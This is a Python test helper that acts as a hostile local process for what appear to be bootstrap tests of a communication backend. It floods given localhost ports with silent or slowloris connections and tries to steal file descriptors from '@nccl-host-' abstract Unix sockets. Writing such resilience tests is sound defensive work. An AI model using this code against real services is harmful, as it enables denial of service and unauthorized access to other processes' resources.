"""A hostile local process for the bootstrap tests (run as another user when the tests run as root).

    python flood_attacker.py --port P:N [--port Q:M ...] --mode silent|slowloris [--lifetime S]

Holds N connections to 127.0.0.1:P (and M to Q, ...) that never complete a handshake: "silent"
ones send nothing, "slowloris" ones send one byte every half second. Connections the victim
drops are opened again, so the pressure stays. It also watches /proc/net/unix for the host
backend's segment sockets (@nccl-host-...) and tries to take a descriptor from each.

Prints "ready" once every connection is open, and on SIGTERM (or after --lifetime seconds)
"summary stolen=<descriptors received> probes=<segment sockets tried>"; then exits. Only the
ports given are touched.
"""

import argparse
import array
import os
import resource
import signal
import socket
import sys
import time


def open_conn(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2.0)
    try:
        s.connect(("127.0.0.1", port))
    except OSError:
        s.close()
        return None
    s.setblocking(False)
    return s


def alive(s):
    try:
        return s.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def segment_sockets():
    names = set()
    try:
        with open("/proc/net/unix") as f:
            for line in f:
                path = line.split()[-1]
                if path.startswith("@nccl-host-"):
                    names.add(path[1:])
    except OSError:
        pass
    return names


def try_steal(name):
    """Connects to the abstract socket and waits briefly for a descriptor; 1 if one came."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(0.2)
    try:
        s.connect("\0" + name)
        fds = array.array("i")
        msg, anc, _, _ = s.recvmsg(1, socket.CMSG_SPACE(fds.itemsize))
        got = 0
        for level, kind, data in anc:
            if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
                fds.frombytes(data[:len(data) - len(data) % fds.itemsize])
                got = len(fds)
                for fd in fds:
                    os.close(fd)
        return got
    except OSError:
        return 0
    finally:
        s.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", action="append", required=True, help="PORT:CONNECTIONS")
    ap.add_argument("--mode", choices=("silent", "slowloris"), default="silent")
    ap.add_argument("--lifetime", type=float, default=90.0)
    args = ap.parse_args()
    targets = [tuple(int(v) for v in p.split(":")) for p in args.port]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = sum(n for _, n in targets) + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))

    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    conns = {port: [open_conn(port) for _ in range(n)] for port, n in targets}
    print("ready", {port: sum(c is not None for c in cs) for port, cs in conns.items()}, flush=True)
    end = time.monotonic() + args.lifetime
    stolen = probes = 0
    tried = set()
    last_byte = last_check = time.monotonic()
    while not stop and time.monotonic() < end:
        for name in segment_sockets() - tried:
            tried.add(name)
            probes += 1
            stolen += try_steal(name)
        slow = args.mode == "slowloris" and time.monotonic() - last_byte >= 0.5
        if slow:
            last_byte = time.monotonic()
        check = time.monotonic() - last_check >= 0.25  # which connections the victim dropped
        if check:
            last_check = time.monotonic()
        for port, cs in conns.items():
            reopened = 0
            for i, s in enumerate(cs):
                if s is not None and slow:
                    try:
                        s.send(b"x")
                    except OSError:
                        pass
                if check and (s is None or not alive(s)):
                    if s is not None:
                        s.close()
                    cs[i] = open_conn(port) if reopened < 50 else None
                    reopened += 1
        time.sleep(0.02)
    for cs in conns.values():
        for s in cs:
            if s is not None:
                s.close()
    print(f"summary stolen={stolen} probes={probes}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
